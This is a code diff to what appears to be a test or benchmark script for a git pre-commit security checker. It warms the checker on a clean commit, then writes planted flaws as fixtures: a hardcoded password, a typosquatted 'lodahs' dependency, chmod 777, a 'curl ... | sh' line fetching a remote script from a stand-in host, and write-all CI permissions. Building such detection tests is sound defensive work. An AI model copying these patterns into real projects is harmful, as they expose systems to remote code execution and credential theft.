@@ -36,8 +36,26 @@ try {
   write('src/app.js', "export function add(a, b) {\n  return a + b;\n}\n");
   write('test/app.test.js', "import { add } from '../src/app.js';\nit('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n");
   write('deploy.sh', '#!/bin/sh\nset -e\nchmod 644 /srv/app/config\n');
+  write('README.md', '# Train\n\nAdds numbers.\n');
   git('add', '-A');
   git('commit', '-q', '-m', 'Start');
+
+  // The group of the checks before each commit (pre-commit, commit-msg and
+  // check --staged) learns from a change with no finding, as most commits are:
+  // a source edit, a new test and a docs line. Functions that only a
+  // finding needs are left out of its cache and compiled when first called.
+  // On the bench's 30-line change this cache (650 KB instead of 955 KB) saved
+  // about 1.5 ms of a staged check; a staged change with findings took about
+  // 3 ms longer.
+  write('src/app.js', 'export function add(a, b) {\n  // Numbers only.\n  return Number(a) + Number(b);\n}\n\nexport function sub(a, b) {\n  return a - b;\n}\n');
+  write('test/app.test.js', "import { add, sub } from '../src/app.js';\nit('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\nit('subtracts', () => {\n  expect(sub(3, 2)).toBe(1);\n});\n");
+  write('README.md', '# Train\n\nAdds and subtracts numbers.\n');
+  git('add', '-A');
+  run(['check', '--staged']);
+  run(['hook', 'pre-commit']);
+  write('.git/COMMIT_EDITMSG', 'Add subtraction\n\nNumbers are converted first.\n');
+  run(['hook', 'commit-msg', '--', join(dir, '.git/COMMIT_EDITMSG')]);
+  git('commit', '-q', '--no-verify', '-m', 'Subtract');
 
   write('package.json', '{\n  "name": "train",\n  "scripts": { "test": "vitest run || true" },\n  "dependencies": { "yaml": "^2.0.0", "lodahs": "^1.0.0" }\n}\n');
   write('src/app.js', `const password = "${token()}";\nexport function add(a, b) {\n  // eslint-disable-next-line\n  return a + b;\n}\n`);
@@ -45,9 +63,6 @@ try {
   write('deploy.sh', '#!/bin/sh\nset -e\nchmod 777 /srv/app/config\ncurl -s https://example.invalid/i.sh | sh\n');
   write('.github/workflows/ci.yml', 'on: push\npermissions: write-all\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n');
   git('add', '-A');
-
-  run(['check', '--staged']);
-  run(['hook', 'pre-commit']);
   git('commit', '-q', '--no-verify', '-m', 'Change');
   run(['check', '--format', 'json', 'HEAD~1..HEAD']);
   const payload = (tool, input) =>
